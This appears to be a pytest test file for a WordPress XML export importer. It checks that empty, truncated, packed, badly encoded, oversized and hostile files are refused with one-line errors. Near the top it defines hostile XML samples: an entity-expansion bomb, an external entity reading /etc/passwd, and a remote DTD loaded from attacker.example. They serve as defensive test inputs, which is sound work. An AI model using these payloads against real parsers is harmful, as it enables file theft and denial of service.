"""Files that are broken, cut off, huge or meant to do harm: one clear line, quickly."""

import gzip
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import pytest

from wagtail_peersupport.importers.export import ExportError, Limits, read_export

GOOD = (Path(__file__).parent / "exports" / "wordpress.xml").read_bytes()
HEAD = b'<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><title>'
TAIL = b"</title><wp:post_id>1</wp:post_id></item></channel></rss>"

BOMB = b'<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>' + HEAD + b"&b;" + TAIL
EXTERNAL = b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + HEAD + b"&x;" + TAIL
REMOTE_DTD = b'<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">' + HEAD + TAIL


@pytest.fixture
def file(tmp_path: Path) -> Callable[[bytes], Path]:
    def write(content: bytes) -> Path:
        path = tmp_path / "export.xml"
        path.write_bytes(content)
        return path

    return write


def refusal(path: Path, limits: Limits | None = None) -> str:
    with pytest.raises(ExportError) as caught:
        read_export(path, limits=limits or Limits())
    message = str(caught.value)
    assert message.startswith(path.name)
    assert "\n" not in message
    return message


@pytest.mark.parametrize(
    ("content", "says"),
    [
        pytest.param(b"", "is empty", id="empty"),
        pytest.param(b"just text", "is not XML", id="text"),
        pytest.param(b'{"comments": []}', "is not XML", id="json"),
        pytest.param(b"\x00\x01\x02\x03" * 50, "is not XML", id="binary"),
        pytest.param(b"<html><body/></html>", "begins with <html>", id="web page"),
        pytest.param(b"<feed><entry/></feed>", "begins with <feed>", id="other export"),
        pytest.param(gzip.compress(GOOD), "is packed (gzip)", id="gzip"),
        pytest.param(b"PK\x03\x04 and so on", "is packed (zip)", id="zip"),
        pytest.param(GOOD[:3000], "ends in the middle", id="cut off"),
        pytest.param(GOOD[: GOOD.index(b"stir it in")], "ends in the middle", id="cut in CDATA"),
        pytest.param(HEAD, "ends in the middle", id="cut in an element"),
        pytest.param(HEAD + b"a & b" + TAIL, "is not well-formed XML", id="bare ampersand"),
        pytest.param(HEAD + b"&nbsp;" + TAIL, "is not well-formed XML", id="unknown entity"),
        pytest.param(HEAD + b"</wrong>" + TAIL, "line 1", id="wrong nesting"),
        pytest.param(HEAD + b"caf\xe9" + TAIL, "Save it as UTF-8", id="not UTF-8"),
        pytest.param(
            b'<?xml version="1.0" encoding="klingon"?>' + HEAD + TAIL, "klingon", id="encoding"
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="zip"?>' + HEAD + TAIL, '"zip"', id="unpacking codec"
        ),
        pytest.param(BOMB, "DOCTYPE", id="entity bomb"),
        pytest.param(EXTERNAL, "DOCTYPE", id="external entity"),
        pytest.param(REMOTE_DTD, "DOCTYPE", id="remote DTD"),
        pytest.param(HEAD + b"<a>" * 100_000, "nested too deeply", id="deep nesting"),
    ],
)
def test_a_bad_file_is_refused_in_one_line(
    file: Callable[[bytes], Path], content: bytes, says: str
) -> None:
    assert says in refusal(file(content))


def test_what_is_no_readable_file_is_refused(tmp_path: Path) -> None:
    assert "No such file" in refusal(tmp_path / "missing.xml")
    assert "is not a file" in refusal(tmp_path)


def test_a_file_beyond_the_limit_is_refused_before_it_is_read(
    file: Callable[[bytes], Path],
) -> None:
    assert "larger than 1,000 bytes" in refusal(file(GOOD), Limits(file_size=1_000))


def test_too_many_comments_are_refused(file: Callable[[bytes], Path]) -> None:
    assert "more than 3 comments" in refusal(file(GOOD), Limits(comments=3))


@pytest.mark.parametrize(
    ("opening", "filling"),
    [(b"<!-- ", b"x\n"), (b'<item a="', b"x\n"), (b"<?pi ", b"x\n")],
    ids=["remark", "attribute", "instruction"],
)
def test_of_a_single_endless_tag_no_more_is_read_than_its_limit(
    file: Callable[[bytes], Path], opening: bytes, filling: bytes
) -> None:
    content = HEAD[: HEAD.index(b"<item>")] + opening + filling * 6_000_000
    told: list[float] = []
    with pytest.raises(ExportError, match="single tag or remark"):
        read_export(file(content), progress=told.append)
    assert 0 < max(told) * len(content) <= Limits().tag


def test_memory_holds_one_post_at_a_time_not_the_document(file: Callable[[bytes], Path]) -> None:
    revision = b"<item><wp:post_type>revision</wp:post_type><title>%s</title></item>" % (
        b"word " * 20_000
    )
    size = 30 * 1024 * 1024
    path = file(HEAD[: HEAD.index(b"<item>")] + revision * (size // len(revision)) + TAIL[-17:])
    tracemalloc.start()
    export = read_export(path)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert export.left_out["revision"] == size // len(revision)
    assert peak < size / 3


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "latin-1", "cp1252"])
def test_every_usual_encoding_is_read(file: Callable[[bytes], Path], encoding: str) -> None:
    declared = encoding.removesuffix("-sig").removesuffix("-le")
    text = f'<?xml version="1.0" encoding="{declared}"?>{HEAD.decode()}Café{TAIL.decode()}'
    assert read_export(file(text.encode(encoding))).posts[0].title == "Café"


def test_a_warning_printed_before_the_document_does_not_matter(
    file: Callable[[bytes], Path],
) -> None:
    warning = b"<br />\n<b>Warning</b>: headers already sent\n"
    content = warning + b'<?xml version="1.0"?>' + HEAD + b"x" + TAIL
    assert read_export(file(content)).posts[0].title == "x"


def test_control_characters_are_read_as_blanks(file: Callable[[bytes], Path]) -> None:
    assert read_export(file(HEAD + b"a\x0b\x00b" + TAIL)).posts[0].title == "a b"


def test_a_large_text_is_read_whole(file: Callable[[bytes], Path]) -> None:
    text = b"word\n" * 2_000_000
    content = HEAD.replace(b"<title>", b"<title>x</title><wp:comment><wp:comment_content>")
    end = TAIL.replace(b"</title>", b"</wp:comment_content></wp:comment>")
    post = read_export(file(content + b"<![CDATA[" + text + b"]]>" + end)).posts[0]
    assert len(post.comments[0].text) == len(text) - 1


def test_a_long_chain_of_replies_is_no_problem(file: Callable[[bytes], Path]) -> None:
    chain = b"".join(
        b"<wp:comment><wp:comment_id>%d</wp:comment_id><wp:comment_parent>%d</wp:comment_parent>"
        b"<wp:comment_content>x%d</wp:comment_content></wp:comment>" % (n, n + 1, n)
        for n in range(1, 20_000)
    )
    post = read_export(file(HEAD + b"x</title>" + chain + TAIL[len(b"</title>") :])).posts[0]
    assert post.comments[0].parent == ""
    assert post.comments[-1].id == "1"
